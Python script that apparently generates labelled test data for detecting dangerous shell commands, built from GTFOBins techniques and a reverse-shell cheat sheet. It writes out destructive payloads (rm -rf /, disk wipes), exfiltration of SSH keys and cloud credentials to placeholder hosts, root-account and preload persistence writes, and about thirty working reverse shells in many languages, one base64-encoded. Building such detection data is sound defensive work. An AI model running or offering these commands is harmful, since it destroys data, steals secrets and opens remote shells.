"""Rows from GTFOBins techniques (https://gtfobins.github.io, mirrored from
github:GTFOBins/GTFOBins.github.io:_gtfobins/NAME) and from the reverse-shell cheat
sheet of InternalAllTheThings: each technique that runs a shell is given a
destructive or exfiltrating payload in place of the shell; file-write techniques
write a system file; upload techniques send a secret; reverse shells point at a
documentation address (198.51.100.0/24)."""
import hashlib
import re
import shlex
import subprocess

import yaml

from sources import gtfo, IATT_REV

REPO = '/work/.mirror/GTFOBins+GTFOBins.github.io/repo'
C, D = 'catastrophic', 'danger'

PAYLOADS = [
    (C, 'fs-delete', 'rm -rf ~'),
    (C, 'fs-delete', 'rm -rf /'),
    (C, 'fs-delete', 'rm -rf /home/alice'),
    (C, 'device', 'dd if=/dev/zero of=/dev/sda bs=1M'),
    (D, 'fs-delete', 'rm -f /etc/passwd'),
    (D, 'permissions', 'chmod 4755 /bin/bash'),
    (C, 'network-exfil', 'curl -d @/root/.ssh/id_rsa http://198.51.100.7/k'),
    (D, 'fs-delete', 'rm -rf /etc'),
    (C, 'device', 'mkfs.ext4 /dev/sda1'),
    (C, 'fs-delete', 'rm -rf $HOME'),
    (D, 'persistence', 'cp /tmp/.x /etc/cron.hourly/x'),
    (C, 'fs-delete', 'find /home -delete'),
]

WRITES = [
    ('/etc/passwd', 'mallory::0:0::/root:/bin/bash', 'privilege'),
    ('/etc/ld.so.preload', '/tmp/libx.so', 'persistence'),
    ('/etc/shadow', 'root::19000:0:99999:7:::', 'fs-overwrite'),
    ('/root/.bashrc', '/tmp/.x', 'persistence'),
]

SECRETS = ['/root/.ssh/id_rsa', '/home/alice/.aws/credentials', '/etc/shadow', '/home/alice/.ssh/id_ed25519',
           '/home/alice/.config/gcloud/credentials.db', '/home/alice/.docker/config.json']
HOSTS = ['198.51.100.7', 'collect.example.net', '203.0.113.50']

SHELL_RE = re.compile(r'/bin/sh(?:\s+-[ips]\b|\s+[0-9]?[<>]&[0-9]|\s+[0-9]?[<>]\$\(tty\)|\s+\|&\s+tee\s+\$\(tty\))*')


# Payload positions where the replacement no longer parses as the tool expects
# (an exec* that takes a program path, a terminal that takes a program, a crash hook).
BROKEN = ['os.execl(', '.spawn("', 'pcntl_exec(', '(term "', 'set shell=', 'core_pattern']


def parses(code):
    """GTFOBins has a few entries with unbalanced quotes; those are left out."""
    try:
        shlex.split(code)
        return True
    except ValueError:
        return False


def pick(seq, key):
    return seq[int(hashlib.sha256(key.encode()).hexdigest(), 16) % len(seq)]


def entries():
    names = subprocess.check_output(['git', '-C', REPO, 'ls-tree', '--name-only', 'HEAD', '_gtfobins/']).decode().split()
    for path in names:
        text = subprocess.check_output(['git', '-C', REPO, 'show', 'HEAD:' + path]).decode()
        data = yaml.safe_load(text.split('\n...')[0]) or {}
        for fn, items in (data.get('functions') or {}).items():
            for it in items or []:
                code = it.get('code')
                if code and '\n' not in code:
                    yield path.split('/')[-1], fn, code


def quote_state(s, pos):
    """Quote character open at pos ('' when unquoted)."""
    q = ''
    i = 0
    while i < pos:
        c = s[i]
        if q == '' and c == '\\':
            i += 2
            continue
        if q == '' and c in '\'"':
            q = c
        elif q == c:
            q = ''
        i += 1
    return q


def substitute_shell(code, payload):
    m = SHELL_RE.search(code)
    if not m:
        return None
    if quote_state(code, m.start()) == '':
        before = code[:m.start()]
        if before and not before[-1].isspace():
            return None  # part of a larger word (exec=/bin/sh)
        prev = before.split()[-1] if before.split() else ''
        if prev.startswith('-') and prev not in ('--',):
            return None  # an option's value: a payload with spaces would not parse the same
    return code[:m.start()] + payload + code[m.end():]


def rows():
    out = []
    seen = set()
    for name, fn, code in entries():
        if code in seen or not parses(code):
            continue
        seen.add(code)
        key = name + fn + code
        if fn in ('shell', 'command'):
            label, fam, payload = pick(PAYLOADS, key)
            code2 = code.replace('/path/to/command', '/bin/sh').replace('/path/to/ld.so', '/lib64/ld-linux-x86-64.so.2')
            code2 = code2.replace('/path/to/temp-file', '/tmp/x.zip')
            new = substitute_shell(code2, payload)
            if new and new != code2 and 'attacker.com' not in new and 'DATA' not in new \
                    and payload + ' -c' not in new and not any(b in new for b in BROKEN):
                out.append((label, fam, gtfo(name), new))
        elif fn == 'file-write' and '/path/to/output-file' in code and '/path/to/input-file' not in code:
            target, data, fam = pick(WRITES, key)
            new = code.replace('/path/to/output-file', target).replace('DATA', data)
            out.append((D, 'fs-delete' if code.startswith('shred') else fam, gtfo(name), new))
        elif fn == 'upload' and '/path/to/input-file' in code:
            new = code.replace('/path/to/output-file', '/tmp/loot').replace('/path/to/input-file', pick(SECRETS, key))
            new = new.replace('attacker.com', pick(HOSTS, key))
            if 'DATA' not in new:
                out.append((C, 'network-exfil', gtfo(name), new))
        elif fn == 'reverse-shell':
            new = code.replace('attacker.com', pick(HOSTS, key)).replace('12345', '4444')
            out.append((D, 'reverse-shell', gtfo(name), new))
    return out


REVERSE = [
    'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196',
    '/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1',
    'sh -i >& /dev/udp/10.0.0.1/4242 0>&1',
    "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "export RHOST=\"10.0.0.1\";export RPORT=4242;python -c 'import socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "python -c 'a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")'",
    "python -c 'socket=__import__(\"socket\");subprocess=__import__(\"subprocess\");s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);shell_exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'",
    "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4242\");loop{c.gets.chomp!;(exit! if $_==\"exit\");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts \"failed: #{$_}\"}'",
    "echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"10.0.0.1:4242\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go && rm /tmp/t.go",
    'nc -e /bin/sh 10.0.0.1 4242',
    'nc -c bash 10.0.0.1 4242',
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
    'rm -f /tmp/f;mknod /tmp/f p;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
    'ncat 10.0.0.1 4242 -e /bin/bash',
    'ncat --udp 10.0.0.1 4242 -e /bin/bash',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s',
    "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    'telnet 10.0.0.1 8080 | /bin/sh | telnet 10.0.0.1 8081',
    "/tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
    "wget -q https://github.com/andrew-d/static-binaries/raw/master/binaries/linux/x86_64/socat -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
    "node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.0.0.1 4242\")'",
    "echo YmFzaCAtYyAnYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjEnCg== | base64 -d | bash -i",
]


def reverse_rows():
    return [(D, 'reverse-shell', IATT_REV, c) for c in REVERSE]
